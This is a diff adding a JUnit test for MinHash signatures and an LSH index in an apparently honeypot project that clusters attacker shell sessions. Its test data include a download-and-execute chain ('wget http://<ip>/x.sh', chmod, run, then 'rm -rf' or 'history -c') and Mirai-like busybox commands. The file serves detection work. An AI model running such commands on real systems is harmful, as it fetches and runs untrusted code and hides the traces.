@@ -0,0 +1,42 @@
+package com.eduardo.HoneyPot.sketch;
+
+import org.junit.jupiter.api.Test;
+
+import java.util.List;
+import java.util.Set;
+
+import static org.junit.jupiter.api.Assertions.*;
+
+class MinHashTest {
+
+	private final MinHash minHash = new MinHash(128);
+
+	@Test
+	void similarScriptsHaveCloseSignatures() {
+		List<String> script = List.of("uname -a", "cd /tmp", "wget http://<ip>/x.sh", "chmod +x x.sh", "./x.sh", "rm -rf x.sh");
+		List<String> variant = List.of("uname -a", "cd /tmp", "wget http://<ip>/x.sh", "chmod +x x.sh", "./x.sh", "history -c");
+		List<String> unrelated = List.of("cat /proc/cpuinfo", "free -m", "nproc");
+
+		long[] a = minHash.signature(MinHash.shingles(script, 2));
+		long[] b = minHash.signature(MinHash.shingles(variant, 2));
+		long[] c = minHash.signature(MinHash.shingles(unrelated, 2));
+
+		assertEquals(1.0, MinHash.similarity(a, minHash.signature(MinHash.shingles(script, 2))));
+		assertTrue(MinHash.similarity(a, b) > 0.5);
+		assertTrue(MinHash.similarity(a, c) < 0.1);
+	}
+
+	@Test
+	void lshReturnsOnlyNearDuplicatesAsCandidates() {
+		LshIndex index = new LshIndex(32, 4);
+		List<String> script = List.of("enable", "system", "shell", "sh", "cat /proc/mounts", "/bin/busybox ECCHI");
+		List<String> variant = List.of("enable", "system", "shell", "sh", "cat /proc/mounts", "/bin/busybox MIORI");
+		index.add("mirai", minHash.signature(MinHash.shingles(script, 2)));
+		index.add("miner", minHash.signature(MinHash.shingles(List.of("cat /proc/cpuinfo", "free -m", "nproc"), 2)));
+
+		assertEquals(Set.of("mirai"), index.candidates(minHash.signature(MinHash.shingles(script, 2))));
+		assertEquals(Set.of("mirai"), index.candidates(minHash.signature(MinHash.shingles(variant, 2))));
+		assertTrue(index.candidates(minHash.signature(MinHash.shingles(List.of("ls", "pwd"), 2))).isEmpty());
+		assertEquals(Math.pow(1.0 / 32, 1.0 / 4), index.threshold(), 1e-9);
+	}
+}